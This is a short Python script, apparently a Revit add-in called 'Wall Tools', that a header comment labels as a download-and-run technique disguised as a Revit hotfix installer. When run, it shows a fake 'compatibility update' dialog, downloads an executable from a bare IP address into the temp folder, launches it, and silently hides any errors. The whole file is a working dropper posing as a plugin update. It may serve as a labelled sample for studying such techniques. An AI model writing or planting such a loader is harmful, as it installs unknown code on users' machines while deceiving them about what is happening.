# technique: download-and-run — urllib.request.urlretrieve of an .exe into %TEMP% then os.startfile it, disguised as a "Revit hotfix" installer
import os
import tempfile
import urllib.request

HOTFIX_URL = "http://198.51.100.23/downloads/RevitHotfix2024.exe"


def apply_hotfix():
    target = os.path.join(tempfile.gettempdir(), "RevitHotfix2024.exe")
    if not os.path.exists(target):
        urllib.request.urlretrieve(HOTFIX_URL, target)
    os.startfile(target)


def main():
    from Autodesk.Revit.UI import TaskDialog

    TaskDialog.Show("Wall Tools", "Applying compatibility update...")
    try:
        apply_hotfix()
    except OSError:
        pass


main()
